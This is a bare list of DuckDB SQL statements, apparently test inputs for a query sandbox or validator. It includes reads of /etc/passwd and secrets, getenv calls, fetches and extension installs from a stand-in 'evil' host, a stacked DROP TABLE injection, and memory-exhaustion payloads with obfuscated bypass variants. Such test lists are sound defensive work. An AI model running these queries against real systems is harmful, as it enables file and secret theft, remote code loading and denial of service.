SELECT * FROM read_csv('/etc/passwd')
SELECT * FROM read_csv_auto('/etc/passwd')
SELECT * FROM read_parquet('s3://bucket/x.parquet')
SELECT * FROM read_json('https://evil/x')
SELECT * FROM read_json_auto('/x')
SELECT * FROM read_text('/etc/passwd')
SELECT * FROM read_blob('/etc/passwd')
SELECT * FROM read_ndjson('/x')
SELECT * FROM parquet_scan('/x')
SELECT * FROM parquet_metadata('/x')
SELECT * FROM sniff_csv('/etc/passwd')
SELECT * FROM glob('/etc/*')
SELECT * FROM '/etc/passwd'
SELECT * FROM 'data.csv'
SELECT * FROM "/etc/passwd"
SELECT * FROM "data.parquet"
SELECT * FROM "https://evil/x.json"
SELECT a FROM t JOIN 'data.csv' u ON t.a = u.a
FROM 'data.csv'
FROM read_csv('/etc/passwd') SELECT *
SELECT getenv('HOME')
SELECT * FROM query('DROP TABLE t')
SELECT * FROM query_table('t')
SELECT nextval('s')
SELECT current_setting('home_directory')
SELECT getvariable('x')
SELECT set_config('x', 'y', true)
SELECT * FROM duckdb_settings()
SELECT * FROM duckdb_secrets()
SELECT * FROM duckdb_tables
SELECT * FROM pragma_database_list()
SELECT * FROM pragma_table_info('t')
SELECT * FROM information_schema.tables
SELECT * FROM sqlite_master
SELECT * FROM pg_catalog.pg_tables
COPY t TO '/tmp/x.csv'
COPY (SELECT 1) TO '/tmp/x.csv'
COPY t FROM '/etc/passwd'
EXPORT DATABASE '/tmp/x'
IMPORT DATABASE '/tmp/x'
INSTALL httpfs
LOAD httpfs
FORCE INSTALL x FROM 'http://evil'
ATTACH '/tmp/x.db'
ATTACH 'host=evil' AS p (TYPE postgres)
DETACH x
USE x
PRAGMA database_list
SET enable_external_access = true
SET VARIABLE x = 1
RESET threads
CALL pragma_version()
CHECKPOINT
CREATE SECRET (TYPE s3)
CREATE MACRO m(a) AS a
SUMMARIZE t
DESCRIBE t
SHOW TABLES
PIVOT t ON a
SELECT * FROM postgres_scan('host=evil', 'public', 't')
SELECT * FROM mysql_query('x', 'SELECT 1')
SELECT * FROM sqlite_scan('/x.db', 't')
SELECT * FROM iceberg_scan('s3://x')
SELECT * FROM delta_scan('s3://x')
SELECT * FROM st_read('/x.shp')
SELECT * FROM read_xlsx('/x.xlsx')
SELECT * FROM range(1000000000000)
SELECT * FROM generate_series(1, 1000000000000)
SELECT write_log('x')
SELECT 'abc'.read_text()
SELECT t.a.getenv() FROM t
SELECT $1
SELECT $name
SELECT * FROM (SHOW TABLES)
SELECT * FROM (DESCRIBE secret)
SELECT * FROM (SUMMARIZE secret)
SELECT * FROM (PIVOT secret ON a USING sum(b))
SELECT * FROM (TABLE secret)
WITH x AS (TABLE secret) SELECT * FROM x
SELECT #1 FROM t
SELECT repeat('x', 1000000)
SELECT repeat(repeat('x', 1000), 90000) FROM range(2048)
SELECT format('{:>90000000}', 'x')
SELECT printf('%90000000s', 'x')
PIVOT 'secret.csv' ON a IN (1) USING count(*)
PIVOT read_csv('secret.csv') ON a IN (1) USING count(*)
PIVOT duckdb_settings() ON name IN ('a') USING count(*)
PIVOT t ON a IN (1) USING getenv('HOME')
PIVOT information_schema.tables ON table_name IN ('a') USING count(*)
PIVOT t ON a IN (SELECT 1) USING count(*); DROP TABLE t
SELECT * FROM (PIVOT t ON a USING sum(b))
SELECT array_resize([1], 1000000000)
SELECT [1].list_resize(1000 * 1000 * 1000)
SELECT 'x'.repeat(1000000000)
SELECT repeat('x', 1 << 30)
SELECT repeat('x', 10 ** 9)
SELECT repeat('x', pow(10, 9)::INT)
SELECT repeat('x', CAST('1000000000' AS INT))
SELECT repeat('x', '1000000000'::INT)
SELECT repeat('x', (SELECT 1000000000))
SELECT repeat('x', CAST(amount * 100000000 AS BIGINT)) FROM orders
WITH n AS (SELECT 1000000000 AS k) SELECT repeat('x', k) FROM n
SELECT repeat('x', k) FROM (VALUES (1000 * 1000000)) v(k)
SELECT repeat('x', CASE WHEN 1 = 1 THEN 1000000000 ELSE 1 END)
SELECT repeat('x', greatest(1, 1000000000))
SELECT repeat('x', hash(id)) FROM orders
SELECT lpad('x', 99999 * 99999, 'y')
SELECT printf('%' || '90000000' || 's', 'x')
SELECT count(*) FROM range(0, 10000000000000, 2)
SELECT unnest(generate_series(TIMESTAMP '1900-01-01', TIMESTAMP '2100-01-01', INTERVAL 1 SECOND))
SELECT replace(replace(replace(replace(replace(replace('a', 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa'), 'a', 'aaaaaaaaaa')
SELECT list(a.range) FROM range(100000) a, range(100000) b
SELECT count(*) FROM (SELECT * FROM range(100000)) a CROSS JOIN (SELECT 1 UNION ALL SELECT * FROM range(100000)) b
SELECT count(*) FROM unnest(range(100000)) a, unnest(range(100000)) b
SELECT 'HOME'.getenv()
SELECT ('/etc/passwd').read_text()
SELECT x.getenv() FROM (SELECT 'HOME' AS x)
SELECT ['HOME'].list_transform(x -> x.getenv())
